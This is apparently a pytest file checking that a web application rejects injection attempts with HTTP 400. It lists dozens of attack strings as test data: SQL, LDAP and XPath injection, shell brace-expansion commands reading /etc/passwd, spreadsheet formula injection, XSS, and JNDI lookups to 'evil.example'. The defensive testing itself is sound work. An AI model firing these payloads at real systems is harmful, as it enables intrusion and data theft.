# ruff: noqa: E501  (texts as attackers write them)
"""Attacks that look like the language of a setting are refused (tests/customers/test_grammars.py)."""

from __future__ import annotations

import pytest

from tests.customers.posted import statuses_of

ATTACKS = r"""
CHAR(58)||CHAR(101)||CHAR(99)
1 OR CHAR(10)=CHAR(10)
union char(10)
CHAR(10)) OR (1=1
=A1&CHAR(10)&(SELECT password FROM users)
=A1' OR CHAR(58)=CHAR(58) --
=IF(1=1,SLEEP(5),CHAR(10))
=CHAR(10)&version()
=A1&"" or CHAR(58)=CHAR(58) or "
=1;SELECT CHAR(10)
{cat,/etc/passwd}
{cat,secrets}
{cat,x}y
c{at,p}
ca{t,x}
c{a,oun}t
{ls,-la}
{curl,evil}
{bash,x}
{reboot,now}
{sh,x{id,name}}
;{cat,passwd}
id,name;{cat,passwd}
id,name{cat,/etc/passwd}
cat${IFS}/etc/passwd
${x:-$(id)}
${X:-`id`}
${X:-cat}
${PORT:-$(id)}
${PORT:-8080;id}
${HOME:0:1}
${${XX:-jn}di:ldap://evil.example/a}
@{7*7}
/bin/ca[t]
/etc/pas[s]wd
/e[t]c/passwd
/bin/sh[1]
/usr/bin/python[3]
' or '1'='1
//user[name='x' or '1'='1']
/html/body[1]' or '1'='1
//user[@name='' or 1=1 or ''='']
//user[@a=' or 1=1 or ']
//user[@a='x' or true()]
']|//password|a['
//user/password[1]
/html/body/div[1]|//user
//a[@b="x" or "1"="1"]
/x[1]; id
//*[@id="__class__"] or 1=1
(&(uid=admin)(!(&(1=0)(userPassword=q))))
*)(uid=*))(|(uid=*
admin)(&)
admin)(!(&(1=0)(x=y)))
(|(uid=*)(cn=*))
(&(sn=administrator)(password=*))
(uid=a)(uid=*)
(&(uid=a)(userPassword=*))
x)(|(objectClass=*)
1' -- x
admin' -- x
3' -- or 1=1
Shelf 3' or 1=1 -- white
Shelf 3' ; drop table x -- white
Shelf 3' -- union select white
Shelf 6' -- oak, 12" or 1=1
password::int
current_user::int
version()::int
(select password from users)::int
id::int=1 or 1=1
id::int; drop table x
CASE WHEN 1=1 THEN 1 ELSE 0 END
CASE WHEN (SELECT 1)=1 THEN 1 ELSE 0 END
SUM(x)::float or 1=1
COALESCE(NULLIF(x,''),'y') or '1'='1
" || "1"="1
"a" || 1=1
'a' || 'b' || (select 1)
&#60;script&#62;alert(1)&#60;/script&#62;
&#60;3 <script>alert(1)</script>
&#60; &#60;script&#62;alert(1)
||id
|| cat /etc/passwd
/etc/passwd\0
shell.php\0.png
^*)(uid=*$
^a)*)(|(uid=*)$
^*)(|(objectClass=*)(a=b$
{{ states(config) }}
{{ states(self.__init__) }}
{{ states(request.args.x) }}
Sizes: 3' -- or 1=1
Sizes: 3' -- 6' or 1=1
CASE WHEN a=a THEN SLEEP(5) ELSE 0 END
"""


@pytest.mark.parametrize("text", ATTACKS.strip().splitlines())
def test_an_attack_of_the_same_characters_is_refused(text: str) -> None:
    assert statuses_of("value", text) == {400}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("cmd", "{id,name}"),
        ("cat", "CASE WHEN password='a' THEN 1 ELSE 0 END"),
        ("cat", "OTk5OTkgdW5pb24gdmFsdWVzIHJvdygxLDIp"),
        ("command", "author{id,name}"),
        ("value", "\n{cat,passwd}"),
        ("value", "id,name\n{ls,x}"),
        ("user", "Shelf 3' -- white"),
        ("username", "ann lee 3' -- white"),
        ("title", "Shelf 3' -- white\nunion select 1"),
        ("sort", "id::int"),
        ("url", "ldap://evil.example/a"),
        ("ldap_url", "ldap://evil.example/Exploit"),
        ("ldap_url", "${jndi:ldap://evil.example/a}"),
        ("user_filter", "*)(uid=*))(|(uid=*"),
        ("user_filter", "(|(uid=*)(userPassword=*))"),
    ],
)
def test_a_field_in_which_it_acts_gives_no_relief(name: str, text: str) -> None:
    assert statuses_of(name, text, "query", "form") == {400}
